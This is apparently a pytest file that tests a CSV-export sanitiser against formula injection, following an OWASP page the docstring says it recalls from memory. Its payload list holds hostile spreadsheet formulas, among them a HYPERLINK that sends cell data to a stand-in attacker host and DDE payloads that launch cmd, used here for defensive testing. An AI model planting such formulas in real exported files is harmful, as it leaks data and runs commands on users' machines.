"""Cells that a spreadsheet must not run.

Source: OWASP Foundation, "CSV Injection" (page of the Attacks list): a cell is run as a formula when it begins with
= + - @, tab (0x09), carriage return (0x0D), line feed or the full-width forms of the signs; separators and quotes in
the text may begin a new cell; the remedy is a leading apostrophe, every field in quotes, quotes doubled. The list is
from memory of that page.
"""

import csv
import io
import string
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from web.csv_safe import csv_lines, plain_text, safe_cell, safe_text

OWASP_STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"]
PAYLOADS = [
    '=HYPERLINK("http://evil.example?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "a;=1+1",
    'a";=1+1',
    "a\t=1+1",
    "a\n=1+1",
    "a|=1+1",
]


def cells(line: str, separator: str) -> list[str]:
    """How a reader set to `separator` sees a line, quotes or not: the worst case, for it may not know the quotes."""
    return [cell.strip('" ') for part in line.splitlines() for cell in part.split(separator)]


@pytest.mark.parametrize("start", OWASP_STARTS)
def test_no_cell_begins_as_a_formula(start: str) -> None:
    guarded = safe_text(f"{start}1+1")
    assert guarded.startswith("'")
    assert plain_text(guarded) == f"{start}1+1"


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("separator", [";", "\t", "|"])
def test_no_other_separator_makes_a_formula(payload: str, separator: str) -> None:
    line = "".join(csv_lines(["object"], [["nail", payload, "end"]])).split("\r\n", 1)[1]
    for cell in cells(line, separator):
        assert not cell.startswith(("=", "+", "-", "@")), cell


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_files_own_separator_stays_inside_the_quotes(payload: str) -> None:
    text = "".join(csv_lines(["a", "b"], [[payload, f"x,{payload}"]])).removeprefix("\ufeff")
    header, row = list(csv.reader(io.StringIO(text, newline="")))
    assert header == ["a", "b"]
    assert [plain_text(cell) for cell in row] == [payload, f"x,{payload}"]


def test_numbers_stay_numbers_and_text_that_looks_like_one_is_text() -> None:
    lines = list(csv_lines(["n"], [[-50, Decimal("-4.25"), 1.5, "-50", None, True]]))
    assert lines[1] == '-50,-4.25,1.5,"\'-50","","True"\r\n'
    assert safe_cell(-50) == -50


def test_ordinary_words_are_left_alone() -> None:
    for text in ("53.6012, -0.1534", "TA 43211 12342", "buckle - worn", "a; b", "it's", "", "5 > 3"):
        assert safe_text(text) == text


def test_the_first_line_says_that_it_is_utf8() -> None:
    assert next(csv_lines(["object"], [])).encode().startswith(b"\xef\xbb\xbf")


@given(
    st.text(
        alphabet=st.sampled_from("=+-@＝'\"; |\t\r\n,ab 1") | st.sampled_from(string.printable), max_size=30
    )
)
def test_what_was_guarded_comes_back_as_it_was(text: str) -> None:
    assert plain_text(safe_text(text)) == text
